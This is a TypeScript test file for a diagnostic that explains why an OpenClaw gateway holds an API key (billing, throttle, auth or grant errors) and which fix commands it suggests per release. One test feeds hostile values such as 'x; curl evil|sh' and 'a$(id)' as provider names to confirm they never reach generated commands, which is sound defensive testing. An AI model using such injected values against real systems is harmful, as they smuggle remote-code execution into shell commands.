import { describe, expect, test } from "vitest";

import { hashAuthProfileId } from "@/lib/openclaw/auth-profile-id";

import { diagnoseHold, type HoldEvidence } from "./diagnose-hold";
import { diagnoseProblem } from "./diagnose-problem";
import { inEnglish } from "./english";
import type { Finding } from "./finding";

const STORED = hashAuthProfileId("alibaba-chat:default");

type Known = Partial<Omit<HoldEvidence, "hold">>;

function held(hold: Partial<HoldEvidence["hold"]>, known: Known = {}): Finding | null {
  return diagnoseHold({
    hold: { kind: "cooldown", reason: "auth", model: null, rawError: null, authProfileHash: STORED, ...hold },
    held: true,
    names: {},
    versionAssumed: false,
    plan: "standard",
    region: "cn-beijing",
    host: "https://dashscope.aliyuncs.com/compatible-mode/v1",
    openclawVersion: "2026.9.6",
    keyWorks: false,
    contradicted: false,
    checkFindings: [],
    ...known,
  });
}

const WORKS = { keyWorks: true, contradicted: true };
const THROTTLE = "429 insufficient_quota: You exceeded your current quota … error-code#token-limit";
const BILLING = { kind: "disabled", reason: "billing" } as const;

function checkFinding(reason: string): Finding {
  const finding = diagnoseProblem({
    problem: { step: "model", reason },
    plan: "standard",
    region: "cn-beijing",
    host: "dashscope.aliyuncs.com",
    keyKind: null,
    inARow: 2,
    keyAccepted: false,
    acceptedElsewhere: null,
    rawReply: null,
  });
  if (!finding) throw new Error("This reason is a problem.");
  return finding;
}

describe("a hold on a key that works", () => {
  test("is the gateway's memory: the key is healthy, and nobody is told to check it once more", () => {
    const finding = held(BILLING, WORKS);
    expect(finding).toMatchObject({
      rule: "held-although-healthy",
      key: "healthy",
      category: "billing",
    });
    expect(finding?.steps).not.toContain("check-key");
    expect(finding?.evidence).toBe("disabled reason=billing");
  });

  test("after a refusal means that the gateway sends another key", () => {
    expect(held({ rawError: "401 Incorrect API key provided." }, WORKS)).toMatchObject({
      rule: "gateway-uses-stored-key",
      key: "healthy",
      evidence: "401 Incorrect API key provided.",
    });
  });

  test("without an end has outlived the provider's limit", () => {
    expect(held({ kind: "blocked", reason: "subscription_limit" }, WORKS)).toMatchObject({
      rule: "hold-outlives-limit",
      key: "healthy",
    });
  });
});

describe("what the provider said, against what the gateway made of it", () => {
  test("a throttle recorded as billing is called a throttle; with a working key it says do not replace it", () => {
    const finding = held({ ...BILLING, rawError: THROTTLE });
    expect(finding).toMatchObject({ rule: "throttle-held-as-billing", key: "throttled" });
    expect(held({ ...BILLING, rawError: THROTTLE }, WORKS)).toMatchObject({ key: "healthy" });
    expect(finding && inEnglish(finding).cause).toBe(
      "The provider’s words are a limit of tokens per minute, not a bill; OpenClaw 2026.9.6 recorded them as " +
        "billing. In this release such a hold lasts 10 min at first and 24 h at most.",
    );
  });

  test("the same words on a token plan are used-up credits, so billing was not far off", () => {
    const host = "token-plan.cn-beijing.maas.aliyuncs.com";
    expect(held({ ...BILLING, rawError: THROTTLE }, { plan: "token-team", host })).toMatchObject({
      rule: "quota-used",
      key: "blocked",
    });
  });

  test("a missing grant that holds the whole key never condemns it", () => {
    expect(held({ rawError: "403 Model access denied." })).toMatchObject({
      rule: "grant-held-as-auth",
      key: "healthy",
      category: "permission",
    });
  });

  test("a debt recorded as auth is called a debt, until a check finds the key working", () => {
    const rawError = "400 Access denied, please make sure your account is in good standing.";
    expect(held({ rawError })).toMatchObject({ rule: "debt-held-as-auth", key: "billing" });
    expect(held({ rawError }, WORKS)).toMatchObject({
      rule: "held-although-healthy",
      key: "healthy",
    });
  });

  test("a refusal that no check has looked at stays a suspicion", () => {
    expect(held({ rawError: "401 Incorrect API key provided." })).toMatchObject({
      rule: "wrong-key-or-wrong-host",
      key: "suspect",
    });
  });
});

describe("a hold whose cause our own check met too", () => {
  test.each([
    ["key-refused", "auth", "suspect"],
    ["billing-arrears", "billing", "billing"],
    ["billing-arrears", "auth", "billing"],
    ["throttled", "rate_limit", "throttled"],
    ["model-not-found", "model_not_found", "healthy"],
  ])("%s explains %s, and the key is what the check says: %s", (met, reason, key) => {
    const finding = held({ reason }, { checkFindings: [{ finding: checkFinding(met), model: null }] });
    expect(finding).toMatchObject({ rule: "hold-explained-by-check", key });
    expect(finding?.steps[0]).toBe("mend-cause-first");
  });

  test("a hold on one model is not explained by another model's trouble", () => {
    const checkFindings = [{ finding: checkFinding("throttled"), model: "qwen3-max" }];
    const hold = { reason: "rate_limit", model: "qwen3.6-plus" };
    expect(held(hold, { checkFindings })).toBeNull();
    expect(held({ ...hold, model: "qwen3-max" }, { checkFindings })?.rule).toBe("hold-explained-by-check");
  });

  test("a trouble of another kind explains nothing", () => {
    const checkFindings = [{ finding: checkFinding("throttled"), model: null }];
    expect(held({ reason: "auth" }, { checkFindings })).toBeNull();
  });
});

test("a hold that neither a check nor the provider's words say anything of is no finding", () => {
  expect(held({})).toBeNull();
  expect(held({ rawError: "The moon was full." })).toBeNull();
});

const NO_RESTART = "restart-does-not-end";

describe("how a hold is ended is told for the release of the gateway", () => {
  test.each([
    ["2026.9.6", ["edit-state-database", "paste-does-not-end"]],
    ["2026.8.1", ["edit-state-database", NO_RESTART]],
    ["2026.7.1", [NO_RESTART]],
    ["2026.5.12", ["edit-state-file", NO_RESTART]],
    ["2026.4.1", [NO_RESTART]],
    ["no version at all", [NO_RESTART]],
    [null, [NO_RESTART]],
  ])("%s, for a provider id of one’s own: no sign-in ends it", (openclawVersion, more) => {
    const finding = held(BILLING, { ...WORKS, openclawVersion, names: { provider: "alibaba-chat" } });
    expect(finding?.steps).toEqual(["wait-for-end", "own-id-no-sign-in", ...more]);
    expect(finding && inEnglish(finding).fix.join()).not.toContain("no version at all");
  });

  test.each([
    ["2026.9.6", ["sign-in-ends-own", "paste-does-not-end"], "no others"],
    ["2026.7.1", ["sign-in-ends-own", NO_RESTART], "no others"],
    ["2026.5.12", ["sign-in-ends-all", NO_RESTART], "all auth profiles of the provider"],
    ["2026.4.1", ["sign-in-if-new", NO_RESTART], "from 2026.5.12 on"],
    [null, ["sign-in-if-new", NO_RESTART], "from 2026.5.12 on"],
  ])("%s, for a plugin’s provider: what a sign-in ends", (openclawVersion, more, words) => {
    const finding = held(BILLING, { ...WORKS, openclawVersion, names: { provider: "qwen" } });
    expect(finding?.steps).toEqual(["wait-for-end", ...more]);
    expect(finding && inEnglish(finding).fix.join()).toContain(words);
  });

  test.each(["2026.3.13", "v2026.2.17"])("%s: only its end, a success, or the stored file", (version) => {
    const finding = held(BILLING, {
      ...WORKS,
      openclawVersion: version,
      names: { provider: "alibaba-chat" },
    });
    expect(finding?.steps).toEqual([
      "wait-for-end",
      "no-command-ends-it",
      "edit-profiles-file",
      "restart-may-end",
    ]);
  });

  test("an assumed release is said to be assumed", () => {
    const finding = held(BILLING, { ...WORKS, versionAssumed: true });
    expect(finding?.steps.at(-1)).toBe("name-the-release");
    expect(finding && inEnglish(finding).fix.at(-1)).toContain("OpenClaw 2026.9.6, which is assumed");
  });

  test("what holds nothing any more needs no end", () => {
    const finding = held({ rawError: "403 Model access denied." }, { held: false });
    expect(finding?.steps).toEqual(["grant-model", "other-model"]);
  });
});

describe("which key the gateway uses instead", () => {
  const REFUSED = { rawError: "401 Incorrect API key provided." };

  test("of an auth profile: replaced by its id on 2026.9.6, deleted by a script before", () => {
    const names = { provider: "alibaba-chat", authProfile: "alibaba-chat:default" };
    const now = held(REFUSED, { ...WORKS, names });
    expect(now?.rule).toBe("gateway-uses-stored-key");
    expect(now?.commands["replace-stored-key"]).toBe(
      "openclaw models auth paste-api-key --provider alibaba-chat --profile-id alibaba-chat:default",
    );
    expect(now?.commands["config-key-first"]).toBe(
      "openclaw config set models.providers.alibaba-chat.auth api-key",
    );
    const old = held(REFUSED, { ...WORKS, names, openclawVersion: "2026.3.13" });
    expect(old?.steps).not.toContain("config-key-first");
    expect(old?.commands["remove-stored-key"]).toContain("auth-profiles.json");
  });

  test.each([
    ["no auth profile at all", null],
    ["the one OpenClaw makes up", hashAuthProfileId("inline-api-key:alibaba-chat")],
  ])("of config or environment, by %s", (_, authProfileHash) => {
    const names = { provider: "alibaba-chat", variable: "ALIBABA_CHAT_API_KEY" };
    const finding = held({ ...REFUSED, authProfileHash }, { ...WORKS, names });
    expect(finding?.rule).toBe("gateway-uses-inline-key");
    expect(finding?.commands["store-key-in-env"]).toContain("ALIBABA_CHAT_API_KEY");
    expect(finding?.steps).not.toContain("replace-stored-key");
  });

  test("names from a hostile log line make no command", () => {
    const names = { provider: "x; curl evil|sh", authProfile: "a$(id)" };
    const finding = held(REFUSED, { ...WORKS, names });
    expect(JSON.stringify(finding?.commands)).not.toMatch(/evil|\$\(id\)/);
    expect(finding?.commands["restart-gateway"]).toBe("openclaw gateway restart");
  });
});

test("a path that is wrong for the gateway and right for us is its base URL", () => {
  const names = { provider: "alibaba-chat", baseUrl: "https://dashscope.aliyuncs.com/compatible-mode/v1" };
  const finding = held(
    { reason: "model_not_found", rawError: "404 status code (no body)" },
    { ...WORKS, names },
  );
  expect(finding).toMatchObject({ rule: "gateway-wrong-path", key: "healthy" });
  expect(finding?.commands["set-base-url"]).toBe(
    "openclaw config set models.providers.alibaba-chat.baseUrl https://dashscope.aliyuncs.com/compatible-mode/v1",
  );
});

test("access denied to the gateway with a key that we prove is a grant, not a key", () => {
  const rawError = "403 Access denied.";
  expect(held({ rawError }, WORKS)?.rule).toBe("grant-held-as-auth");
  expect(held({ rawError })?.rule).toBe("access-denied");
});

test.each([
  ["2026.9.6", "rate_limit", "lasts 30 s at first and 24 h at most"],
  ["2026.5.12", "rate_limit", "lasts 30 s at first and 5 min at most"],
  ["2026.3.13", "billing", "lasts 5 h at first and 24 h at most"],
  ["2026.9.6", "auth_permanent", "lasts 10 min at first and 1 h at most"],
])("how long OpenClaw %s holds for %s is told", (openclawVersion, reason, sentence) => {
  const finding = held({ reason }, { ...WORKS, openclawVersion });
  expect(finding && inEnglish(finding).cause).toContain(sentence);
});
